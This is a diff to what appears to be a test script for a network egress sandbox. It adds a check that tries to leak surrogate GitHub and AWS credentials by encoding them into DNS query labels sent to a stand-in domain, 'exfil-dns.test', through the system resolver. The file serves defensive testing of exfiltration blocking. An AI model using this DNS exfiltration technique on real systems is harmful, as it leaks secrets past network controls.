@@ -19,7 +19,10 @@ import subprocess
 import sys
 import urllib.parse
 
-PROXY = open('/etc/resolv.conf').read().split('nameserver')[1].split()[0]
+# Every name resolves to the proxy. The configured resolver is the proxy itself on Podman, and Docker's embedded
+# resolver (127.0.0.11, inside this network namespace) on Docker, which forwards to the proxy.
+PROXY = socket.gethostbyname('allowed.test')
+RESOLVER = open('/etc/resolv.conf').read().split('nameserver')[1].split()[0]
 CA = '/etc/airlock/ca.pem'
 SURROGATE = os.environ['GH_TOKEN']
 AWS_KEY = os.environ['AWS_ACCESS_KEY_ID']
@@ -166,6 +169,10 @@ def exfil_labels():
 
 def v_dns_long_labels():
     return dns_udp(exfil_labels() + '.exfil-dns.test')
+
+
+def v_dns_system_resolver():
+    return dns_udp(exfil_labels() + '.exfil-dns.test', 1, RESOLVER)
 
 
 def v_dns_txt():
